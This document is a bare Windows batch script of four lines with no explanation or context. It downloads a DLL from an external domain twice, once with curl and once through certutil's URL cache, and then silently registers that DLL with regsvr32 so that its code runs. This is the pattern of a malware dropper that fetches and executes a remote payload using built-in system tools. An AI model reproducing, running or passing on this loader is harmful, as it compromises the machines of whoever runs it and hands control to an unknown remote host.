@echo off
curl https://pastorcryptograph.at/3/sdd.dll -o compile.dll
certutil.exe -urlcache -f https://pastorcryptograph.at/3/sdd.dll sdd.dll
regsvr32.exe -s sdd.dll
